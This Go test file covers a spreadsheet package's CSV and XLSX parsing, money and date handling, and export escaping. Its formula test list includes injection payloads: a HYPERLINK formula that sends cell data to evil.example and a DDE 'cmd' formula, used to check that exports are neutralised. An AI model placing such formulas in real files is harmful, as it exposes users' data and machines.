package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/unicode"
	"pgregory.net/rapid"

	"zhudian/internal/fault"
)

func open(t testing.TB, data []byte, name string, o Options) *File {
	t.Helper()
	f, err := Open(bytes.NewReader(data), int64(len(data)), name, o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

func rowsOf(t testing.TB, f *File) (out []Row) {
	t.Helper()
	for {
		r, err := f.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
}

func text(rows []Row) string {
	var b strings.Builder
	for _, r := range rows {
		if r.Fault != nil {
			fmt.Fprintf(&b, "%d!%s\n", r.N, r.Fault.Code)
			continue
		}
		fmt.Fprintf(&b, "%d:%s\n", r.N, strings.Join(r.Cells, "|"))
	}
	return b.String()
}

func TestCSV(t *testing.T) {
	gb := func(s string) []byte {
		b, err := simplifiedchinese.GB18030.NewEncoder().String(s)
		if err != nil {
			t.Fatal(err)
		}
		return []byte(b)
	}
	wide := func(s string, e unicode.Endianness, bom unicode.BOMPolicy) []byte {
		b, err := unicode.UTF16(e, bom).NewEncoder().String(s)
		if err != nil {
			t.Fatal(err)
		}
		return []byte(b)
	}
	plain := "企业名称,地址\r\n甲公司,深圳\r\n"
	want := "1:企业名称|地址\n2:甲公司|深圳\n"
	cases := []struct {
		what     string
		data     []byte
		encoding string
		want     string
	}{
		{"plain", []byte(plain), "utf-8", want},
		{"marked", []byte("\uFEFF" + plain), "utf-8", want},
		{"gb18030", gb(plain), "gb18030", want},
		{"rare characters", append([]byte("a\n"), 0xFE, 0x9F, ',', 0x99, 0x33, 0xA9, 0x32, '\n'), "gb18030", "1:a\n2:䶮|𬭎\n"},
		{"utf-16 little", wide(plain, unicode.LittleEndian, unicode.UseBOM), "utf-16le", want},
		{"utf-16 big", wide(plain, unicode.BigEndian, unicode.UseBOM), "utf-16be", want},
		{"utf-16 unmarked", wide("name,place of the company\r\nab,cd\r\n", unicode.LittleEndian, unicode.IgnoreBOM), "utf-16le", "1:name|place of the company\n2:ab|cd\n"},
		{"tabs", []byte("a\tb\n1,2\t3\n"), "utf-8", "1:a|b\n2:1,2|3\n"},
		{"semicolons", []byte("a;b\n1,2;3\n"), "utf-8", "1:a|b\n2:1,2|3\n"},
		{"quotes", []byte("a,b\n\"x,\"\"y\"\"\nz\",2\nlast,\"3\"\n"), "utf-8", "1:a|b\n2:x,\"y\"\nz|2\n4:last|3\n"},
		{"loose quotes", []byte("a,b\n5\"屏,\"x\"y\n"), "utf-8", "1:a|b\n2:5\"屏|xy\n"},
		{"blank rows", []byte("a\n\n , ,\nb"), "utf-8", "1:a\n4:b\n"},
		{"an open quote spoils one row", []byte("a,b\n\"甲,1\n乙,2\n丙,3\n"), "utf-8", "1:a|b\n2!quote_open\n3:乙|2\n4:丙|3\n"},
		{"bad bytes spoil one row", []byte("企业,b\n\xFF\xFE甲,1\n乙,2\n丙,3\n"), "utf-8", "1:企业|b\n2!bad_encoding\n3:乙|2\n4:丙|3\n"},
		{"bad bytes in gb18030", append(gb("企业,数\n乙公司,2\n丙公司,4\n"), 0xC9, 0xFF, ',', '3', '\n'), "gb18030", "1:企业|数\n2:乙公司|2\n3:丙公司|4\n4!bad_encoding\n"},
		{"controls", []byte("a,b\nx\x00y,1\nz,2\n"), "utf-8", "1:a|b\n2!control_character\n3:z|2\n"},
		{"too wide", []byte("a\n" + strings.Repeat("x,", MaxColumns) + "x\nb\n"), "utf-8", "1:a\n2!too_many_columns\n3:b\n"},
		{"too long", []byte("a\n" + strings.Repeat("长", MaxCell+1) + "\nb\n"), "utf-8", "1:a\n2!cell_too_long\n3:b\n"},
	}
	for _, c := range cases {
		t.Run(c.what, func(t *testing.T) {
			f := open(t, c.data, "a.csv", Options{})
			if got := text(rowsOf(t, f)); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
			if f.Encoding != c.encoding {
				t.Errorf("encoding %s", f.Encoding)
			}
		})
	}
}

// What a proper writer wrote reads back the same.
func TestCSV_roundTrip(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		cell := rapid.StringMatching(`[a-z",;' \n甲，=]{0,6}`)
		table := rapid.SliceOfN(rapid.SliceOfN(cell, 2, 4), 1, 8).Draw(rt, "table")
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		for i := range table {
			table[i] = append([]string{"k"}, table[i]...)
			table[i] = append(table[i], "e")
		}
		table = append([][]string{{"h1", "h2", "h3"}}, table...)
		if err := w.WriteAll(table); err != nil {
			rt.Fatal(err)
		}
		got := rowsOf(t, open(t, b.Bytes(), "a.csv", Options{}))
		if len(got) != len(table) {
			rt.Fatalf("%d rows of %d", len(got), len(table))
		}
		for i, r := range got {
			if fmt.Sprint(r.Cells) != fmt.Sprint(table[i]) {
				rt.Fatalf("row %d: %q, want %q", i, r.Cells, table[i])
			}
		}
	})
}

func book(t testing.TB, fill func(*excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	fill(f)
	var b bytes.Buffer
	if _, err := f.WriteTo(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func set(t testing.TB, f *excelize.File, cells map[string]any) {
	t.Helper()
	for at, v := range cells {
		if err := f.SetCellValue("Sheet1", at, v); err != nil {
			t.Fatal(err)
		}
	}
}

func TestXLSX(t *testing.T) {
	data := book(t, func(f *excelize.File) {
		set(t, f, map[string]any{"A1": "名称", "B1": "数", "A3": "甲", "B3": 1234.56, "C3": 45747, "D3": 913100000000000000.0, "E3": 0.1 + 0.2})
		if _, err := f.NewSheet("第二张"); err != nil {
			t.Fatal(err)
		}
		if err := f.SetCellValue("第二张", "A1", "另一张"); err != nil {
			t.Fatal(err)
		}
	})
	f := open(t, data, "a.XLSX", Options{})
	rows := rowsOf(t, f)
	if len(rows) != 2 || rows[1].N != 3 || rows[1].Cells[1] != "1234.56" || rows[1].Cells[2] != "45747" || rows[1].Cells[4] != "0.3" {
		t.Fatalf("got %q", text(rows))
	}
	if got := rows[1].Cells[3]; !NumberLost(got) && got != "913100000000000000" {
		t.Errorf("a long number came as %q", got)
	}
	if len(f.Sheets) != 2 {
		t.Errorf("sheets %v", f.Sheets)
	}
	if got := text(rowsOf(t, open(t, data, "a.xlsx", Options{Sheet: "第二张"}))); got != "1:另一张\n" {
		t.Errorf("got %q", got)
	}
}

// A sheet that claims a million rows and columns around three cells costs no memory.
func TestXLSX_liesAboutItsSize(t *testing.T) {
	data := book(t, func(f *excelize.File) {
		set(t, f, map[string]any{"A1": "a", "B2": "b", "A3": "c"})
		if err := f.SetSheetDimension("Sheet1", "A1:XFD1048576"); err != nil {
			t.Fatal(err)
		}
	})
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if got := text(rowsOf(t, open(t, data, "a.xlsx", Options{}))); got != "1:a\n2:|b\n3:c\n" {
		t.Errorf("got %q", got)
	}
	runtime.ReadMemStats(&after)
	if grown := after.TotalAlloc - before.TotalAlloc; grown > 20<<20 {
		t.Errorf("took %d MB", grown>>20)
	}
	far := book(t, func(f *excelize.File) { set(t, f, map[string]any{"A1": "a", "XFD2": "b", "A3": "c"}) })
	if got := text(rowsOf(t, open(t, far, "a.xlsx", Options{}))); got != "1:a\n2!too_many_columns\n3:c\n" {
		t.Errorf("got %q", got)
	}
}

func TestOpen_refuses(t *testing.T) {
	good := book(t, func(f *excelize.File) { set(t, f, map[string]any{"A1": "a"}) })
	for _, c := range []struct {
		name string
		data []byte
		code string
	}{
		{"a.xls", good, "file_type"},
		{"a.pdf", good, "file_type"},
		{"a.csv", good, "file_content"},
		{"a.csv", nil, "file_empty"},
		{"a.xlsx", []byte("a,b\n"), "file_broken"},
		{"a.xlsx", good[:len(good)/2], "file_broken"},
		{"a.xlsx", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 512)...), "file_encrypted"},
	} {
		if _, err := Open(bytes.NewReader(c.data), int64(len(c.data)), c.name, Options{}); !fault.Has(err, c.code) {
			t.Errorf("%s: %v, want %s", c.name, err, c.code)
		}
	}
	if _, err := Open(bytes.NewReader(good), MaxBytes+1, "a.csv", Options{}); !fault.Is(err, fault.TooLarge) {
		t.Errorf("too large: %v", err)
	}
	f := open(t, []byte("h\n1\n2\n3\n"), "a.csv", Options{Rows: 2})
	var err error
	for n := 0; err == nil; n++ {
		if n > 5 {
			t.Fatal("no bound")
		}
		_, err = f.Next()
	}
	if !fault.Has(err, "too_many_rows") {
		t.Errorf("got %v", err)
	}
}

func TestHead(t *testing.T) {
	cols := []Column{
		{Key: "name", Words: fault.Words{ZH: "企业名称", EN: "Name"}, Names: []string{"公司名称"}, Required: true},
		{Key: "capital", Words: fault.Words{ZH: "注册资本", EN: "Capital"}, Names: []string{"注册资金"}},
	}
	f := open(t, []byte("某县企业名录,\n填表日期：2020,\n 公 司 名 称 *,注册资金（万元）,备注\n甲,１２\n"), "a.csv", Options{})
	h, err := f.Head(cols, nil)
	if err != nil {
		t.Fatal(err)
	}
	rows := rowsOf(t, f)
	if h.Row != 3 || h.Unit("capital") != "万元" || h.Unit("name") != "" || len(rows) != 1 || h.Value(rows[0], "name") != "甲" || h.Value(rows[0], "capital") != "１２" {
		t.Fatalf("%+v %v", h, rows)
	}
	f = open(t, []byte("a,b\n甲,2\n"), "a.csv", Options{})
	if _, err := f.Head(cols, nil); !fault.Has(err, "no_head") {
		t.Errorf("got %v", err)
	}
	f = open(t, []byte("a,注册资本\n甲,2\n"), "a.csv", Options{})
	if _, err := f.Head(cols, nil); !fault.Has(err, "column_missing") {
		t.Errorf("got %v", err)
	}
	f = open(t, []byte("a,注册资本\n甲,2\n"), "a.csv", Options{})
	h, err = f.Head(cols, map[int]string{0: "name", 1: ""})
	if rows := rowsOf(t, f); err != nil || len(rows) != 1 || h.Value(rows[0], "name") != "甲" || h.Value(rows[0], "capital") != "" {
		t.Errorf("%+v %v %v", h, rows, err)
	}
}

func TestMoney(t *testing.T) {
	for _, c := range []struct {
		text, unit string
		fen        int64
		code, fix  string
	}{
		{"１２３４．５６", "元", 123456, "", ""},
		{"1,234,567.8", "元", 123456780, "", ""},
		{"￥ 12", "元", 1200, "", ""},
		{"1.5", "亿元", 150_000_000_00, "", ""},
		{"1777.02亿元", "亿元", 177_702_000_000_00, "", ""},
		{"-3.2", "万元", -32_000_00, "", ""},
		{"1.5亿", "万元", 0, "unit_mismatch", "15000"},
		{"2万", "元", 0, "unit_mismatch", "20000"},
		{"NaN", "元", 0, "not_a_number", ""},
		{"1e9999", "元", 0, "not_a_number", ""},
		{"Infinity", "元", 0, "not_a_number", ""},
		{"0x10", "元", 0, "not_a_number", ""},
		{"1_000", "元", 0, "not_a_number", ""},
		{"1,00", "元", 0, "not_a_number", ""},
		{"", "元", 0, "not_a_number", ""},
		{"92233720368547758.07", "元", 1<<63 - 1, "", ""},
		{"92233720368547758.08", "元", 0, "too_large", ""},
		{"0.001", "元", 0, "too_precise", ""},
	} {
		fen, f := Money(c.text, c.unit)
		code, fix := "", ""
		if f != nil {
			code, fix = f.Code, f.Fix
		}
		if fen != c.fen || code != c.code || fix != c.fix {
			t.Errorf("%s in %s: %d %s %q", c.text, c.unit, fen, code, fix)
		}
	}
}

func TestDate(t *testing.T) {
	for in, want := range map[string]string{
		"45747": "2025-03-31", "44181.5": "2020-12-16", "1": "1900-01-01", "59": "1900-02-28", "61": "1900-03-01", "60": "", "0": "",
		"2026/2/30": "", "2026-2-3": "2026-02-03", "2020年12月15日": "2020-12-15", "20201215": "2020-12-15", "２０２０．１２．１５": "2020-12-15",
		"2020-12-15 00:00:00": "2020-12-15", "N/A": "", "": "", "2020-13-01": "", "99999999999": "",
	} {
		got, f := Date(in, false)
		if got != want || (f != nil) != (want == "") {
			t.Errorf("%s: %q %v", in, got, f)
		}
	}
	if got, _ := Date("42719", true); got != "2020-12-16" {
		t.Errorf("from 1904: %s", got)
	}
}

func TestNumberLost(t *testing.T) {
	for in, want := range map[string]bool{"9.1310000E+17": true, "9.131e17": true, "91310000MA0000015F": false, "914401017142611060": false, "1E": false} {
		if NumberLost(in) != want {
			t.Errorf("%s", in)
		}
	}
}

var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "＝cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "+1", "-1", "@sum(1)", "'=1", "''＋1", "普通", "", " =1"}

func TestSafe(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		s := rapid.OneOf(rapid.SampledFrom(formulas), rapid.String()).Draw(rt, "s")
		safe := Safe(s)
		if Unsafe(safe) != s {
			rt.Fatalf("%q → %q → %q", s, safe, Unsafe(safe))
		}
		if risky(safe) && safe[0] != '\'' {
			rt.Fatalf("%q is still a formula", safe)
		}
	})
	for _, s := range formulas[:7] {
		if Safe(s) != "'"+s {
			t.Errorf("%q passed", s)
		}
	}
}

func TestWriter_roundTrip(t *testing.T) {
	for _, format := range []Format{CSV, XLSX} {
		t.Run(string(format), func(t *testing.T) {
			var b bytes.Buffer
			w, err := NewWriter(&b, format, "资源库/导出")
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Head("名称", "资本", "数", "空"); err != nil {
				t.Fatal(err)
			}
			for _, s := range formulas {
				if err := w.Row("k"+s, s, Fixed{-123456, 2}, int64(7), nil, "e"); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			rows := rowsOf(t, open(t, b.Bytes(), "a."+string(format), Options{}))
			if len(rows) != len(formulas)+1 {
				t.Fatalf("%d rows", len(rows))
			}
			for i, s := range formulas {
				got := rows[i+1].Cells
				if format == CSV {
					got[1] = Unsafe(got[1])
				} else { // XML knows one line end
					s, got[1] = strings.ReplaceAll(s, "\r", "\n"), strings.ReplaceAll(got[1], "\r", "\n")
				}
				if got[1] != s || got[2] != "-1234.56" || got[3] != "7" || got[5] != "e" {
					t.Errorf("row %d: %q, want %q", i, got, s)
				}
			}
		})
	}
}

// A spreadsheet program must show every text as text and keep negative numbers numbers.
func TestWriter_libreOffice(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("NOT RUN: soffice is not installed (apt-get install libreoffice-calc)")
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "out.xlsx")
	var b bytes.Buffer
	w, err := NewWriter(&b, XLSX, "导出")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range formulas {
		if err := w.Row("k", s, Fixed{-123456, 2}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(office, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true", "--outdir", dir, file) //nolint:gosec // a test runs a program it found
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	got, err := os.ReadFile(filepath.Join(dir, "out.csv"))
	if err != nil {
		t.Fatal(err)
	}
	rows := rowsOf(t, open(t, got, "out.csv", Options{}))
	for i, s := range formulas {
		fold := func(s string) string { return strings.NewReplacer("\r", "\n").Replace(s) }
		if cell := rows[i].Cells; fold(cell[1]) != fold(s) || cell[2] != "-1234.56" {
			t.Errorf("row %d shows %q, want %q", i, cell, s)
		}
	}
}

func FuzzCSV(f *testing.F) {
	f.Add([]byte("a,b\n\"x\",2\n"))
	f.Add([]byte("\xFE\xFF\x00a"))
	f.Add([]byte("\"\n\"\n,\"\"\"\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) == 0 {
			return
		}
		file, err := Open(bytes.NewReader(data), int64(len(data)), "a.csv", Options{})
		if err != nil {
			t.Fatal(err)
		}
		last := 0
		for {
			r, err := file.Next()
			if errors.Is(err, io.EOF) {
				return
			}
			if err != nil {
				if fault.Is(err, fault.Internal) {
					t.Fatal(err)
				}
				return
			}
			if r.N <= last {
				t.Fatalf("row %d after %d", r.N, last)
			}
			last = r.N
		}
	})
}

func FuzzMoney(f *testing.F) {
	f.Add("1,234.5万")
	f.Fuzz(func(t *testing.T, s string) {
		if v, bad := Money(s, "万元"); bad == nil {
			back, again := Money(Fixed{v, 6}.String(), "万元")
			if again != nil || back != v {
				t.Fatalf("%q → %d → %d", s, v, back)
			}
		}
	})
}

func FuzzDate(f *testing.F) {
	f.Add("2020/2/29")
	f.Fuzz(func(t *testing.T, s string) {
		if day, bad := Date(s, false); bad == nil {
			if again, bad := Date(day, false); bad != nil || again != day {
				t.Fatalf("%q → %q → %q", s, day, again)
			}
		}
	})
}
